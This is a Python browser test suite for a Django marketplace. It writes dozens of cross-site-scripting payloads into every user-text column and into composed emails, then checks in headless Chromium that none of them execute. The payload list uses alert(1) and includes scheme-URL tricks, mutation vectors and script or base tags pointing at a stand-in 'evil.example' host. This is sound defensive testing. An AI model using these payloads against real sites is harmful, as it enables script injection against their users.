"""What people write is words: in a real browser nothing of it runs, and it makes no element.

The pages are opened without their policy and from nowhere, so that escaping alone is asked about.
What could run is run: each element hears the events that a page has. A page that prints the same
words raw is opened beside them; if nothing ran there, nothing would be shown here.

An ordinary run writes one value into every word of the site and opens its widest pages; `make
drills` writes some hundred, and the list of naughty strings where it is there.
"""

import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from django.db import DatabaseError, models, transaction
from django.db.models import Value
from django.db.models.functions import Left
from django.urls import reverse

from accounts import emails
from accounts.models import Kind
from marketplace.kit import personal
from tests.test_hostile import PARTS, pages, person  # noqa: F401 (a fixture)
from tests.world import one_of_everything  # noqa: F401 (a fixture)

pytestmark = pytest.mark.browser

NAUGHTY = Path(__file__).parents[2] / "shared" / "data" / "naughty-strings.json"
# Closes whatever it stands in: an attribute of either quote, a text, a script, a comment, a style.
EVERYWHERE = "'\"></textarea></title></script></style>--><img src=x onerror=alert(1)>"
TAGS = ("img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onanimationstart")
SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
    ),
    *("data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "\x01javascript:alert(1)"),
)
WRITTEN = (
    EVERYWHERE,
    *(f"<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS),
    *(f'"><{tag} {event}=alert(1) x="' for tag in TAGS[:3] for event in EVENTS[:3]),
    *(f'<a href="{scheme}">x</a>' for scheme in SCHEMES),
    *(f'<iframe src="{scheme}"></iframe>' for scheme in SCHEMES),
    *(f"[x]({scheme})" for scheme in SCHEMES),
    *SCHEMES,
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<script\x0b>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import'//evil.example';*{x:expression(alert(1))}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "`onmouseover=alert(1)`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cimg src=x onerror=alert(1)%3E",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "</script><script>alert(1)//",
    "-->'\"><!--<img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
)
# Words in a form of their own, which no person types as they are.
NOT_TYPED = {
    "accounts.User.time_zone",
    "accounts.Mail.html",
    "accounts.KeptAnswer.body",
    "accounts.Delivery.body",
    "accounts.Webhook.url",
    "experts.Credential.jwt",
}
# Whatever a value calls to show itself is counted, and what could hold code is listed.
WATCH = """
window.ran = 0;
for (const name of ['alert', 'confirm', 'prompt', 'print'])
  window[name] = () => { window.ran += 1; };
"""
FOUND = """() => {
  const all = [...document.querySelectorAll('*')];
  for (const element of all)
    for (const kind of ['mouseover', 'click', 'focus', 'toggle', 'animationstart'])
      element.dispatchEvent(new Event(kind));
  const code = /^\\s*(java|vb)script:|^\\s*data:text.html/i;
  const made = all.filter((element) =>
    ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MATH'].includes(element.tagName)
    || (element.tagName === 'SCRIPT' && !element.src && element.type !== 'application/ld+json')
    || [...element.attributes].some((attribute) => attribute.name.startsWith('on')
      || (['href', 'src', 'action', 'formaction'].includes(attribute.name)
        && code.test(attribute.value))));
  return [window.ran, made.map((element) => element.outerHTML.slice(0, 120))];
}"""


@pytest.fixture
def opened(chromium):
    """Open a page from nowhere, without its policy; return how much ran and what could."""
    context = chromium.new_context(bypass_csp=True)
    context.add_init_script(WATCH)
    context.route("**/*", lambda route: route.abort())
    page = context.new_page()

    def opened(html: str) -> tuple[int, list[str]]:
        page.goto("about:blank")
        page.set_content(html)
        ran, made = page.evaluate(FOUND)
        return ran, made

    yield opened
    context.close()


def write_everywhere(value: str) -> int:
    """Write a value into every column that holds people's words; return into how many.

    Columns with a form of their own, such as addresses, and what never changes stay as they are.
    """
    written = 0
    for kept in personal.tables().values():
        for name in kept.named("yours", "others"):
            field = kept.model._meta.get_field(name)
            if not is_words(field):
                continue
            words = Left(Value(value), field.max_length) if field.max_length else Value(value)
            try:
                with transaction.atomic():
                    kept.model._base_manager.update(**{name: words})
                    written += 1
            except DatabaseError:  # agreed, signed, unique or counted: the database keeps it
                continue
    return written


def is_words(field: "models.Field[Any, Any]") -> bool:
    forms = (models.EmailField, models.URLField, models.SlugField, models.FileField)
    return (
        isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, forms)
        and str(field) not in NOT_TYPED
        and not field.choices
        and (field.max_length is None or field.max_length > 40)
        and not field.unique
    )


def harmful(opened, client, address) -> list[str]:
    """Open a page as somebody; return what ran and what could have."""
    page = client.get(address)
    if not page.headers["Content-Type"].startswith("text/html") or page.streaming:
        return []
    ran, made = opened(page.content.decode())
    return [f"{address}: ran {ran} times"] * bool(ran) + [f"{address}: {each}" for each in made]


# --- All pages, one value in every word


def test_words_are_written_almost_everywhere(world):
    assert write_everywhere(EVERYWHERE) >= 60


WIDEST = (
    ("contracts:conversation", "conversation", "acme"),
    ("experts:profile", "expert", "anonymous"),
    ("jobs:detail", "job", "ada"),
    ("jobs:board", "", "anonymous"),
    ("contracts:detail", "contract", "acme"),
    ("accounts:settings", "", "ada"),
)


@pytest.mark.parametrize(("name", "kind", "who"), WIDEST)
def test_nothing_of_it_is_more_than_words(world, person, opened, name, kind, who):  # noqa: F811
    write_everywhere(EVERYWHERE)

    address = reverse(name, args=world[kind])
    page = person(who).get(address).content.decode()
    assert "onerror=alert(1)" in page, "the page shows nothing of it"
    assert harmful(opened, person(who), address) == []


@pytest.mark.drills
@pytest.mark.parametrize("part", PARTS)
def test_nor_on_any_page(world, person, opened, part):  # noqa: F811
    write_everywhere(EVERYWHERE)
    found = []
    for name, kind, who in pages(part):
        found += harmful(opened, person(who), reverse(name, args=world[kind]))
        # What an address says is printed too, in fields and in sentences.
        found += harmful(
            opened, person(who), f"{reverse(name, args=world[kind])}?q={quote(EVERYWHERE)}"
        )
    assert found == []


# --- All values, in the widest pages and a mail


def values() -> list[str]:
    """What is written here, and the naughty strings where they are; without what no row holds."""
    naughty = json.loads(NAUGHTY.read_text("utf-8")) if NAUGHTY.exists() else []
    known = dict.fromkeys([*WRITTEN, *naughty])
    return [value for value in known if value.strip() and "\x00" not in value]


@pytest.mark.drills
@pytest.mark.parametrize("turn", range(8))
def test_no_value_runs(world, person, opened, ada, turn):  # noqa: F811
    places = [(person(who), reverse(name, args=world[kind])) for name, kind, who in WIDEST]
    found = []
    for value in values()[turn::8]:
        write_everywhere(value)
        for client, address in places:
            found += [f"{value!r} {line}" for line in harmful(opened, client, address)]
        _text, html = emails.compose(
            ada, kind=Kind.MESSAGE, subject=value, body=value, url="/", action=value
        )
        ran, made = opened(html)
        found += [f"{value!r} in a mail: {ran} {made}"] if ran or made else []
    assert found == []


def test_raw_they_would_run(opened):
    ran = [value for value in WRITTEN if opened(f"<p>{value}</p><input value='{value}'>")[0]]

    assert len(ran) >= 50
